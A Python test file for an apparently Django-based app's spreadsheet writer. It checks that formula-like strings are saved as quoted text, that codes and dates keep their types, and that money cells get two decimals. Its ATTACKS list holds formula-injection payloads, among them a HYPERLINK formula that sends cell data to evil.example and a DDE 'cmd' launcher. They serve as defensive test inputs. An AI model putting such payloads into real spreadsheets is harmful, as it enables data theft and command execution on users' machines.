"""The one spreadsheet writer: formula-like texts stay text, codes stay text, dates stay dates."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from conftest import login
from sme.core import audit
from sme.core.spreadsheets import Spreadsheet

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def _written(values):
    book = Spreadsheet()
    book.sheet("表", ["列"] * len(values)).append(values)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer


def test_formula_like_texts_are_written_as_quoted_text_never_as_formulas():
    buffer = _written(ATTACKS)
    xml = zipfile.ZipFile(buffer).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml, "no cell is a formula"
    cells = next(load_workbook(buffer)["表"].iter_rows(min_row=2, values_only=False))
    # XML reads a carriage return back as a line feed; the text is otherwise unchanged
    assert [c.value for c in cells] == [a.replace("\r", "\n") for a in ATTACKS]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_codes_stay_text_dates_stay_dates_numbers_stay_numbers():
    moment = timezone.make_aware(dt.datetime(2026, 3, 2, 9, 30))
    buffer = _written(["0012345", "91500000MA5U8Y0X3K", dt.date(2026, 3, 2), moment, Decimal("12.50"), 7])
    row = next(load_workbook(buffer)["表"].iter_rows(min_row=2, values_only=True))
    assert row[:2] == ("0012345", "91500000MA5U8Y0X3K")
    assert row[2] == dt.datetime(2026, 3, 2, 0, 0)
    assert row[3] == dt.datetime(2026, 3, 2, 9, 30), "local time, as officials read it"
    assert row[4] == pytest.approx(12.5) and row[5] == 7


@pytest.mark.django_db
def test_an_organization_name_that_is_a_formula_reaches_the_audit_export_as_text(client, admin_user):
    audit.record("organization.create", actor=admin_user, summary=ATTACKS[0], object_label=ATTACKS[1])
    login(client, admin_user)
    response = client.get("/audit/export.xlsx")
    content = b"".join(response.streaming_content)
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert "HYPERLINK" in xml and "cmd|" in xml
    assert (
        "filename*=utf-8''" in response["Content-Disposition"]
        or "filename=" in response["Content-Disposition"]
    )


def test_money_cells_have_two_decimals_and_thousands_separated():
    from sme.core.spreadsheets import MONEY_FORMAT, Money

    buffer = _written([Money(Decimal("1234567.5")), Money(None)])
    cell = next(load_workbook(buffer)["表"].iter_rows(min_row=2))[0]
    assert cell.value == pytest.approx(1234567.5) and cell.number_format == MONEY_FORMAT
